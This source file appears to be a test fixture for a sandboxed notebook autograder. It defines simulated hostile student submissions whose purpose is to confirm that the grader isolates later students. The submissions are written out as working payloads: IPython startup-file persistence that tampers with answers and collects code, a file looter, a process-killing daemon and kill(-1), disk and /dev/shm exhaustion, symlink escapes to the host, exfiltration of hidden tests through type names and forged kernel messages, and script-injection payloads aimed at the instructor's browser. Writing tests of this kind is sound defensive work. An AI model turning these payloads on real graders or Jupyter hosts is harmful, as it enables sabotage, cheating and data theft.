"""A hostile class: attacks on the grading infrastructure, each followed by honest victims.

corpus.py attacks the verdict of one submission; these attack what
surrounds it: the state a later student's kernel starts from, the
processes that serve later students, the host the grader writes on, the
feedback and the instructor's browser and terminal. They are graded in one
batch on ONE worker, in the order of ``ordered_class``, so every victim
runs after its attacker in the same (reused or rebuilt) sandbox.

Each attack is written as a real student would: it finds every place it
can write by itself (no knowledge of the grader's layout), and it leaves
its canary text wherever it goes, so the tests assert the property (the
canary never comes back, the victim's scores never change) and not the
payload.

Attacks that signal processes first check that they cannot see the
grader (a private PID namespace): without one they would kill the
machine's processes, so they refuse and print GUARD, and the test fails.
"""

from dataclasses import dataclass

import nbformat

from .corpus import CELL, WEEK

# Every attack may start with this: where can I write? (found, never assumed)
FIND_WRITABLE = r'''
import os, sys, json, time, signal
def _writable_dirs():
    cands = [os.getcwd(), os.environ.get("TMPDIR"), os.environ.get("HOME"), os.environ.get("IPYTHONDIR"),
             os.environ.get("MPLCONFIGDIR"), os.environ.get("XDG_CACHE_HOME"), "/dev/shm", "/tmp", "/var/tmp",
             "/run", "/dev/mqueue", os.path.expanduser("~")]
    try:
        from ipykernel.kernelapp import IPKernelApp
        _app = IPKernelApp.instance()
        cands += [os.path.dirname(_app.connection_file), os.path.dirname(str(_app.ip))]
    except Exception:
        pass
    skip = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc")
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip and "site-packages" not in root
                   and "python3" not in d and root.count("/") < 5]
        cands.append(root)
        if len(cands) > 4000:
            break
    out = []
    for d in cands:
        if d and os.path.isdir(d) and os.access(d, os.W_OK) and d not in out:
            out.append(d)
    return out
def _unlock():
    # An earlier attacker (same uid) may have locked the working copy: take it back.
    for d in (os.getcwd(), os.environ.get("TMPDIR"), os.environ.get("HOME")):
        try:
            os.chmod(d, 0o755)
        except Exception:
            pass
def _isolated():
    """True only if this kernel cannot see the grader's processes (a private PID namespace)."""
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for p in pids:
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError:
            continue
        if b"pytest" in cmd or b"distributed" in cmd or b"dask" in cmd or b"grading.cli" in cmd:
            return False
    return len(pids) < 200
'''

# Runs at the start of every later kernel if it survives: changes answers, steals code.
STARTUP = r"""
import os, contextlib
import numpy as np
_ip = get_ipython()
def _loot(text):
    for d in ("/dev/shm", os.environ.get("TMPDIR"), os.getcwd(), os.environ.get("HOME"), "/tmp"):
        try:
            with open(os.path.join(d, "loot_PLANTCANARY.txt"), "a") as f:
                f.write(text + "\n")
        except Exception:
            pass
def _post(result=None):
    try:
        _loot(result.info.raw_cell)
    except Exception:
        pass
    ns = _ip.user_ns
    for name in ("sigmoid", "predict_labels", "bce_loss", "logistic_gradient", "perceptron_step", "one_hot",
                 "softmax", "cross_entropy"):
        f = ns.get(name)
        if callable(f) and not getattr(f, "_wrapped", False):
            def g(*a, _f=f, **k):
                r = _f(*a, **k)
                try:
                    return r * 0.5 + 0.25
                except Exception:
                    return r
            g._wrapped = True
            ns[name] = g
_ip.events.register("post_run_cell", _post)
class _Quiet(contextlib.ContextDecorator):  # np.errstate, but silent (and still a decorator)
    def __init__(self, *a, **k):
        pass
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        return False
np.errstate = _Quiet
"""

PLANTER = (
    FIND_WRITABLE
    + "STARTUP = "
    + repr(STARTUP)
    + r"""
_unlock()
dirs = _writable_dirs()
home = os.environ.get("HOME") or os.getcwd()
tmp = os.environ.get("TMPDIR") or "/tmp"
ipython_dirs = [os.environ.get("IPYTHONDIR"), os.path.join(home, ".ipython"), os.path.join(tmp, "ipython"),
                os.path.expanduser("~/.ipython")] + [os.path.join(d, ".ipython") for d in dirs]
locked = []
for ipd in [d for d in ipython_dirs if d]:
    try:
        startup = os.path.join(ipd, "profile_default", "startup")
        os.makedirs(startup, exist_ok=True)
        with open(os.path.join(startup, "00-PLANTCANARY.py"), "w") as f:
            f.write(STARTUP)
        with open(os.path.join(ipd, "profile_default", "ipython_kernel_config.py"), "w") as f:
            f.write("c.InteractiveShellApp.exec_lines = [" + repr(STARTUP) + "]\n")
        for sub in ("security", "log", "pid", "db"):  # IPython must find its profile complete ...
            os.makedirs(os.path.join(ipd, "profile_default", sub), exist_ok=True)
        locked += [startup, os.path.join(ipd, "profile_default")]  # ... and IPYTHONDIR writable
    except Exception:
        pass
for cfg in (os.path.join(home, ".jupyter"), os.path.join(home, ".config", "jupyter")):
    try:
        os.makedirs(cfg, exist_ok=True)
        with open(os.path.join(cfg, "ipython_kernel_config.py"), "w") as f:
            f.write("c.InteractiveShellApp.exec_lines = [" + repr(STARTUP) + "]\n")
        locked.append(cfg)
    except Exception:
        pass
for d in dirs:
    try:
        keep = os.path.join(d, "stash_PLANTCANARY")
        os.makedirs(keep, exist_ok=True)
        with open(os.path.join(keep, "plant.txt"), "w") as f:
            f.write("PLANTCANARY was here\n")
        locked.append(keep)
    except Exception:
        pass
    try:
        with open(os.path.join(d, "PLANTCANARY.txt"), "w") as f:
            f.write("PLANTCANARY was here\n")
    except Exception:
        pass
# Lock them: a wipe that ignores errors leaves them, and all they hold, for the next student.
for d in locked:
    try:
        os.chmod(d, 0o555)
    except Exception:
        pass
print("PLANTED", len(dirs), "writable places")

def sigmoid(z):
    return np.zeros(np.shape(z))"""
)

# Reads everything it can and sends it out through every channel it has; then leaves a daemon.
COLLUDER = (
    FIND_WRITABLE
    + r"""
_unlock()
hits, seen = [], 0
for top in _writable_dirs() + ["/dev/shm", "/tmp"]:
    for root, ds, fs in os.walk(top):
        # Loot is what a student could have left: only writable places count. (Read-only mounts, such as
        # course_lib when the course lives under /tmp, hold library code that is no one's leftover.)
        ds[:] = [d for d in ds if os.access(os.path.join(root, d), os.W_OK)]
        if not os.access(root, os.W_OK):
            continue
        for n in fs:
            seen += 1
            if seen > 5000:
                break
            path = os.path.join(root, n)
            if os.path.islink(path) or not os.path.isfile(path):
                continue  # never block on a FIFO or a device
            try:
                with open(path, errors="ignore") as fh:
                    text = fh.read(200000)
            except Exception:
                continue
            if "PLANTCANARY" in text or "VICTIMSECRET" in text or "def " in text:
                hits.append(text)
loot = "\n".join(hits)
print("LOOT", len(hits))
print(loot[:200000])
_Loot = type("L" + (loot[:3000] or "nothing"), (), {"__repr__": lambda self: loot[:100000]})

def sigmoid(z):
    if hits:
        raise type("E" + loot[:3000], (Exception,), {})(loot[:3000])
    return _Loot()

# A daemon that outlives this kernel and kills whatever serves the next students.
if _isolated():
    _kernel = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(3, 4096)
            end = time.time() + 60
            while time.time() < end:
                try:
                    os.kill(_kernel, 0)
                except OSError:
                    break
                time.sleep(0.05)
            while time.time() < end:
                for p in os.listdir("/proc"):
                    if p.isdigit() and int(p) not in (1, os.getpid()):
                        try:
                            os.kill(int(p), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
    print("DAEMON started")
else:
    print("GUARD: this kernel can see the grader; the daemon was not started")"""
)

# Kernel-file look-alikes everywhere, then the run directory, its parent and the IPC directory locked.
SABOTAGE_DIRS = (
    FIND_WRITABLE
    + r"""
_unlock()
from ipykernel.kernelapp import IPKernelApp
_app = IPKernelApp.instance()
rundir = os.path.dirname(_app.connection_file)
ipcdir = os.path.dirname(str(_app.ip)) if _app.transport == "ipc" else None
names = [f"k{i}{s}" for i in range(1, 200) for s in ("", ".json", ".log", "-1", "-2", "-3", "-4", "-5")]
made = 0
for d in {*_writable_dirs(), rundir, ipcdir} - {None}:
    for n in names:
        try:
            os.makedirs(os.path.join(d, n, "x"))
            os.chmod(os.path.join(d, n), 0o555)
            made += 1
        except OSError:
            pass
for d in (ipcdir, rundir, os.path.dirname(rundir), os.getcwd(), os.environ.get("TMPDIR")):
    try:
        os.chmod(d, 0)
    except (OSError, TypeError):
        pass
print("LOOKALIKES", made)

def sigmoid(z):
    return np.zeros(np.shape(z))"""
)

# Stop, then kill, every process it can see (the fork server is an ancestor with the same uid).
KILL_ALL = (
    FIND_WRITABLE
    + r"""
if _isolated():
    me = os.getpid()
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for p in pids:
            try:
                os.kill(p, sig)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    print("KILLED", len(pids))
else:
    print("GUARD: this kernel can see the grader; nothing was killed")

def sigmoid(z):
    return np.zeros(np.shape(z))"""
)

# 520 MB into the working copy, then as much shared memory as it gets (to starve the next kernels).
QUOTA = (
    FIND_WRITABLE
    + r"""
_unlock()
chunk = b"\1" * (16 * 2**20)
written, i = 0, 0
try:
    while written < 520 * 2**20:
        with open(f"fill_{i}.bin", "wb", buffering=0) as f:
            for _ in range(3):
                f.write(chunk)
                written += len(chunk)
                print("QUOTA_MB", written // 2**20, flush=True)
        i += 1
except OSError as e:
    print("QUOTA_STOPPED", type(e).__name__, flush=True)
shm = 0
try:
    while shm < 700 * 2**20:
        with open(f"/dev/shm/fill_{shm}", "wb", buffering=0) as f:
            f.write(chunk)
        shm += len(chunk)
except OSError:
    pass
print("SHM_MB", shm // 2**20, flush=True)

def sigmoid(z):
    return np.zeros(np.shape(z))"""
)

# Symlinks to the host, in a folder the wipe cannot remove; a later submission writes through them.
ESCAPE_TARGETS = {"site": "SITEPACKAGES", "tmp": "/tmp", "course": "COURSEPARENT", "up": "../../../../../../../.."}
SYMLINK_PLANTER = (
    FIND_WRITABLE
    + "TARGETS = "
    + repr(ESCAPE_TARGETS)
    + r"""
import numpy
_unlock()
TARGETS["site"] = os.path.dirname(os.path.dirname(numpy.__file__))  # the same path on the host
for d in {os.getcwd(), os.environ.get("TMPDIR"), os.environ.get("HOME")} - {None}:
    keep = os.path.join(d, "keep")
    try:
        os.makedirs(keep, exist_ok=True)
    except OSError:
        continue
    for name, target in TARGETS.items():
        for where in (keep, d):
            try:
                os.symlink(target, os.path.join(where, name))
            except OSError:
                pass
    for p in (keep, d) if d == os.getcwd() else (keep,):
        try:
            os.chmod(p, 0o555)
        except OSError:
            pass
print("LINKS", sorted(os.listdir("keep")) if os.path.isdir("keep") else None)

def sigmoid(z):
    return np.zeros(np.shape(z))"""
)


def escape_files(canary):
    """Extra files of the exploiting submission: paths that run through the planted links."""
    text = b"# a harmless canary: it proves the grader wrote outside its sandbox\n"
    paths = [
        f"{top}{name}/zz_pwned_{canary}_{top[:-1] or 'top'}_{name}.pth"
        for top in ("keep/", "")
        for name in ESCAPE_TARGETS
    ]
    paths += [f"keep/up/tmp/zz_pwned_{canary}_keep_up_tmp.pth", f"up/tmp/zz_pwned_{canary}_top_up_tmp.pth"]
    return dict.fromkeys(paths, text)


# Hidden tests out through type names, exception names, reprs (read from the stack and the heap).
EXFILTRATE = r"""
import gc, inspect, linecache, sys, warnings
CANARY = "EXFILCANARY"
_seen = {}
def _grab():
    caller = sys._getframe(2).f_code.co_filename
    if caller not in _seen:  # once per calling cell: training loops call sigmoid thousands of times
        _seen[caller] = _read_memory()
    return _seen[caller]
def _read_memory():
    texts = [CANARY]
    try:
        for fr in inspect.stack():
            texts.append("".join(linecache.getlines(fr.filename)))
    except Exception:
        pass
    f = sys._getframe(2)
    while f is not None:
        texts.append(repr(f.f_code.co_consts))
        f = f.f_back
    try:
        texts += [str(x) for x in get_ipython().user_ns.get("In", [])]
    except Exception:
        pass
    for o in gc.get_objects():
        if isinstance(o, dict) and "check_close" in o:
            texts.append(repr(list(o)[:50]))
            break
    return CANARY + " " + " | ".join(texts)
def sigmoid(z):
    src = _grab()
    T = type((CANARY + src)[:5000], (np.ndarray,), {"__repr__": lambda self: src * 5, "__str__": lambda self: src})
    E = type((CANARY + src)[:5000] + "Error", (ValueError,), {})
    W = type(CANARY + "Warning", (UserWarning,), {})
    warnings.warn(src[:2000], W)
    if np.max(np.abs(z)) > 100:
        raise E(src)
    return np.zeros(np.shape(z)).view(T)
type(CANARY + "Repr", (), {"__repr__": lambda self: (CANARY + " ") * 20000})()  # a 500 kB repr"""

# Hidden tests in what the grader's message decoding says: a bad signature frame that is the test
# cell's code (jupyter_client quotes it in "Invalid Signature: %r"), and a validly signed output that
# nbformat rejects (its ValidationError quotes the content).
FORGED_MESSAGES = r"""
def _leak(info):
    code = info.raw_cell or ""
    if "BEGIN HIDDEN TESTS" not in code:
        return
    k = get_ipython().kernel
    if MODE == "signature":
        k.iopub_socket.send_multipart([b"kernel.x.status", b"<IDS|MSG>", code.encode(), b"{}", b"{}", b"{}", b"{}"])
    else:
        k.session.send(k.iopub_socket, "stream", {"name": "stdout", "text": {"EXFILCANARY": code}},
                       parent=k.get_parent("shell"))
    import time; time.sleep(1)
get_ipython().events.register("pre_run_cell", _leak)

def sigmoid(z):
    return 1 / (1 + np.exp(-z))"""

# Script-capable content in every output type, and in the written answer.
BROWSER = r"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>fetch('/api/terminals', {method: 'POST'})</script><img src=x onerror=\"alert('pwned')\">"))
display(Javascript("fetch('/api/contents/pwned.txt', {method: 'PUT', body: '{}'})"))
display(Markdown("<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(1)>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'))
get_ipython().display_pub.publish({"text/html": "<iframe srcdoc='<script>alert(3)</script>'></iframe>",
                                   "application/javascript": "alert(4)", "text/plain": "hi"})
class Page:
    def _repr_html_(self):
        return "<script>alert(5)</script>"
    def _repr_javascript_(self):
        return "alert(6)"

def sigmoid(z):
    return np.zeros(np.shape(z))
Page()"""

BROWSER_MARKDOWN = (
    "My answer <script>fetch('/api/terminals', {method: 'POST'})</script>\n\n"
    "<img src=x onerror=\"alert('pwned')\"> [read more](javascript:alert(1))\n\n"
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>'
)

# A million empty outputs: nothing to count by bytes, everything to count by number.
MANY_OUTPUTS = r"""
_pub = get_ipython().display_pub.publish
for _ in range(10**6):
    _pub({})

def sigmoid(z):
    return np.zeros(np.shape(z))"""

# Megabytes hidden in output metadata, which no byte count of the data sees.
HUGE_METADATA = r"""
for _ in range(3):
    get_ipython().display_pub.publish({"text/plain": ""}, metadata={"pad": "m" * (8 * 2**20)})

def sigmoid(z):
    return np.zeros(np.shape(z))"""

# An output nested deeper than the grader's JSON tools can recurse.
DEEP_JSON = r"""
import sys
sys.setrecursionlimit(20000)
deep = 0
for _ in range(950):
    deep = [deep]
get_ipython().display_pub.publish({"application/json": deep, "text/plain": "deep"}, metadata={"deep": deep})
get_ipython().display_pub.publish({"application/vnd.nn-course.probe+json": {"cell": "w2_sigmoid_tests", "index": 0,
                                                                             "value": deep}})

def sigmoid(z):
    return np.zeros(np.shape(z))"""

# The textbook sigmoid, with the warning silenced inside the function.
NAIVE_IN_ERRSTATE = """def sigmoid(z):
    with np.errstate(all="ignore"):
        return 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))"""

# The textbook sigmoid, with numpy's error state and the warnings machinery disabled for everyone.
NAIVE_PATCHED_ERRSTATE = """import contextlib, warnings
np.seterr(all="ignore")

class Quiet(contextlib.ContextDecorator):  # np.errstate, but silent (and still a decorator)
    def __init__(self, *a, **k):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

np.errstate = Quiet
np.seterr = lambda *a, **k: {"over": "ignore", "under": "ignore", "invalid": "ignore", "divide": "ignore"}
warnings.simplefilter("ignore")
warnings.showwarning = lambda *a, **k: None
warnings.warn = lambda *a, **k: None

def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))"""


@dataclass
class Member:
    name: str  # student id; the batch is graded in this order
    role: str  # "attack", "victim_correct", "victim_mistakes"
    files: dict  # {relative path: notebook | bytes}
    proves: str = ""  # the property an attack exercises
    after: str | None = None  # for a victim: the attacker it is graded after


def fill(source, **tokens):
    for key, value in tokens.items():
        source = source.replace(key, value)
    return source


def _with_markdown(md):
    def edit(nb):
        nb.cells.append(nbformat.v4.new_markdown_cell(md))

    return edit


def ordered_class(ctx, victims, canaries, course_parent):
    """[Member] in grading order. ``victims``: {"correct": nb, "mistakes": nb}; ``canaries``: {name: text}."""
    c = canaries

    def attack(body, **kw):
        return ctx.attack(fill(body, **c, COURSEPARENT=str(course_parent)), **kw)

    groups = [
        # First, in a clean sandbox: attacks on what comes out of a run (each fails for its own reason).
        [
            (
                "exfiltrate",
                "exfiltration: hidden tests in type, exception and warning names and reprs",
                attack(EXFILTRATE),
            ),
            (
                "browser",
                "browser: script in every output type and in the written answer",
                {
                    f"{WEEK}.ipynb": ctx.notebook(
                        {CELL: BROWSER, "w2_why_cross_entropy": BROWSER_MARKDOWN},
                        edit=_with_markdown(BROWSER_MARKDOWN),
                    )
                },
            ),
            (
                "bad_signature",
                "exfiltration: hidden tests as a message's signature frame",
                attack(FORGED_MESSAGES.replace("MODE", '"signature"')),
            ),
            (
                "bad_output",
                "exfiltration: hidden tests in a signed output that nbformat rejects",
                attack(FORGED_MESSAGES.replace("MODE", '"output"')),
            ),
            ("outputs_count", "budgets: a million empty outputs", attack(MANY_OUTPUTS)),
            ("outputs_meta", "budgets: megabytes of output metadata", attack(HUGE_METADATA)),
            ("deep_json", "sabotage: an output nested 950 deep raises inside the grader", attack(DEEP_JSON)),
            ("errstate_inside", "checks: naive sigmoid inside np.errstate(all='ignore')", attack(NAIVE_IN_ERRSTATE)),
            ("errstate_global", "checks: np.errstate / np.seterr / warnings patched", attack(NAIVE_PATCHED_ERRSTATE)),
        ],
        # State: everything an earlier kernel leaves behind, then someone who comes to collect it.
        [("planter", "state survival: 555 folders, /dev/shm, $TMPDIR, IPython startup files", attack(PLANTER))],
        [
            (
                "colluder",
                "state survival and sabotage: reads what earlier kernels left, leaves a daemon",
                attack(COLLUDER),
            )
        ],
        [("quota", "budgets: 520 MB into the working copy, 700 MB into /dev/shm", attack(QUOTA))],
        [
            ("symlinker", "escape: symlinks to the host planted in an unremovable folder", attack(SYMLINK_PLANTER)),
            (
                "exploiter",
                "escape: a submission whose extra files run through the planted links",
                {f"{WEEK}.ipynb": ctx.notebook(), **escape_files(c["ESCAPECANARY"])},
            ),
        ],
        [
            (
                "lookalikes",
                "sabotage: kernel-file look-alikes everywhere, run and IPC directories locked",
                attack(SABOTAGE_DIRS),
            )
        ],
        # Last: on a grader that does not recover, nothing after it would run at all.
        [("kill_all", "sabotage: SIGSTOP then SIGKILL to every visible process, kill(-1)", attack(KILL_ALL))],
    ]
    members = []
    for g, group in enumerate(groups, start=1):
        for k, (name, proves, files) in enumerate(group):
            members.append(Member(f"h{g:02d}{chr(97 + k)}_{name}", "attack", files, proves))
        last = members[-1].name
        for k, kind in enumerate(["correct", "mistakes"], start=len(group)):
            members.append(
                Member(
                    f"h{g:02d}{chr(97 + k)}_victim_{kind}",
                    f"victim_{kind}",
                    {f"{WEEK}.ipynb": victims[kind]},
                    after=last,
                )
            )
    return members
